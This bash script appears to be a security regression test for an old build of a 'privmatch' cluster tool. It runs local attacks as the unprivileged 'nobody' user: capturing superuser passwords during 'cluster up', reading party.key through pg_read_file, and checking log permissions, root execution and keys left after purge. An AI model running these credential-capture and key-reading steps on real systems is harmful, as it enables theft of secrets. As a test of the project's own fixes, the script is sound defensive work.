#!/bin/bash
# Attack a (issue 34, point 7) against the OLD build f21d1f1: local cluster secrets.
# A local unprivileged user (`nobody`) watches the home while `cluster up` runs (as root),
# then tries to read secrets afterwards and to use the captured superuser password to read
# party.key with pg_read_file; the coordinator's uid; what `cluster down --purge` leaves.
# Prints ATTACK local-cluster-<part>: SUCCEEDED|REFUSED lines.
set -u
HERE=$(cd "$(dirname "$0")" && pwd)
LOGS=${LOGS:-/tmp/pm-old-attacks}; mkdir -p "$LOGS"
OLD=${OLD:-/work/pgold/bin/privmatch-f21d1f1}
PGBIN=${PGBIN:-/work/pgold/lib/postgresql/15/bin}
H=${H:-/tmp/pmold-a}
LOOT=/tmp/pmold-a-loot
STOP=/tmp/pmold-a-stop
export PATH=$PGBIN:$PATH
pm() { "$OLD" --home "$H" "$@"; }
if [ -d "$H" ]; then pm cluster down --purge >/dev/null 2>&1; rm -rf "$H"; fi
rm -rf "$LOOT" "$STOP"; install -d -o nobody -m 0700 "$LOOT"
echo "== watcher (as nobody) started; cluster up (as root) on ports 15630-15632, 15639"
runuser -u nobody -- /usr/bin/python3 "$HERE/watch_as_nobody.py" "$H" "$LOOT" "$STOP" > "$LOGS"/a-watch.out 2>&1 &
WPID=$!
sleep 0.3
pm cluster up --pg-bin "$PGBIN" --base-port 15630 --coordinator-port 15639 > "$LOGS"/a-up.out 2>&1
echo "cluster up rc=$?"; tail -3 "$LOGS"/a-up.out
touch "$STOP"; wait $WPID
cat "$LOGS"/a-watch.out
echo "== modes after up"
ls -ld "$H" "$H"/p0 "$H"/tls "$H"/operators 2>&1
ls -l "$H"/coordinator.log "$H"/p0/postgres.log "$H"/p0/party.key "$H"/privmatch.toml "$H"/coordinator.toml "$H"/operators/*.toml "$H"/tls/*.pem "$H"/tls/*key* 2>&1
# 1. initdb password files captured by nobody during `up`.
ok_pw=0
for i in 0 1 2; do
  f="$LOOT/$(echo "$H/p$i/pwfile" | tr / _)"
  if [ -s "$f" ]; then
    pw=$(head -1 "$f")
    if grep -q -- "$pw" "$H/operators/p$i.toml"; then
      echo "evidence: nobody read $H/p$i/pwfile during up: ${pw:0:6}… = the superuser password in operators/p$i.toml"
      ok_pw=$((ok_pw+1))
    fi
  fi
done
if [ $ok_pw -gt 0 ]; then echo "ATTACK local-cluster-initdb-pwfile: SUCCEEDED ($ok_pw of 3 superuser passwords captured by nobody during cluster up)"; else echo "ATTACK local-cluster-initdb-pwfile: REFUSED"; fi
# 2. with a captured superuser password, nobody reads party.key through pg_read_file.
if [ $ok_pw -gt 0 ]; then
  for i in 0 1 2; do
    f="$LOOT/$(echo "$H/p$i/pwfile" | tr / _)"; [ -s "$f" ] || continue
    port=$((15630+i))
    su_user=$(grep -m1 '^user' "$H/operators/p$i.toml" | sed 's/.*= *"\(.*\)"/\1/')
    db=$(grep -m1 '^dbname' "$H/operators/p$i.toml" | sed 's/.*= *"\(.*\)"/\1/')
    key=$(runuser -u nobody -- env PGPASSWORD="$(head -1 "$f")" PGSSLMODE=require "$PGBIN/psql" -h 127.0.0.1 -p $port -U "$su_user" -d "$db" -Atc "SELECT pg_read_file('$H/p$i/party.key')" 2>&1)
    kline=$(printf '%s\n' "$key" | head -1)
    echo "nobody as $su_user@P$i (captured password), pg_read_file(party.key): ${kline:0:31}… (${#kline} chars)"
    real=$(head -1 "$H/p$i/party.key" 2>/dev/null)
    if [ -n "$kline" ] && [ "$kline" = "$real" ]; then echo "ATTACK local-cluster-party-key-via-pg_read_file: SUCCEEDED (P$i's party.key read by nobody with the captured password)"; break; fi
  done
fi
# 3. what nobody can read after `up`.
readable=$(runuser -u nobody -- sh -c 'for f in "$@"; do [ -r "$f" ] && echo "$f"; done' sh $(find "$H" -type f \( -name '*.key' -o -name '*.log' -o -name '*.toml' -o -name 'pwfile' -o -name '*credential*' -o -name '*password*' \) ) )
echo "secret-named files nobody can read after up:"; echo "$readable" | sed 's/^/  /'
if echo "$readable" | grep -q coordinator.log; then echo "ATTACK local-cluster-coordinator-log-world-readable: SUCCEEDED ($(stat -c '%a %n' "$H/coordinator.log"))"; else echo "ATTACK local-cluster-coordinator-log-world-readable: REFUSED"; fi
# 4. the coordinator's uid.
cpid=$(cat "$H/coordinator.pid" 2>/dev/null)
uidline=$(grep '^Uid:' /proc/$cpid/status 2>/dev/null)
echo "coordinator pid $cpid: $uidline ($(ps -o user= -p $cpid 2>/dev/null))"
if echo "$uidline" | awk '{exit !($2==0 || $3==0)}'; then echo "ATTACK local-cluster-coordinator-runs-as-root: SUCCEEDED ($uidline)"; else echo "ATTACK local-cluster-coordinator-runs-as-root: REFUSED"; fi
# 5. down --purge: what keys remain; the next up reuses the CA.
ca_before=$(sha256sum "$H/tls/ca.pem" 2>/dev/null | cut -c1-16)
pm cluster down --purge 2>&1 | tail -2
left=$(find "$H" -type f 2>/dev/null)
echo "left under $H after down --purge:"; echo "$left" | sed 's/^/  /'
if echo "$left" | grep -q -E 'key|tls/'; then echo "ATTACK local-cluster-purge-leaves-keys: SUCCEEDED ($(echo "$left" | grep -E 'key' | tr '\n' ' '))"; else echo "ATTACK local-cluster-purge-leaves-keys: REFUSED"; fi
pm cluster up --pg-bin "$PGBIN" --base-port 15630 --coordinator-port 15639 > "$LOGS"/a-up2.out 2>&1
ca_after=$(sha256sum "$H/tls/ca.pem" 2>/dev/null | cut -c1-16)
echo "CA sha256 before purge $ca_before, after the next up $ca_after"
if [ -n "$ca_before" ] && [ "$ca_before" = "$ca_after" ]; then echo "ATTACK local-cluster-next-up-reuses-purged-CA: SUCCEEDED"; else echo "ATTACK local-cluster-next-up-reuses-purged-CA: REFUSED"; fi
pm cluster down --purge >/dev/null 2>&1; rm -rf "$H" "$LOOT" "$STOP"
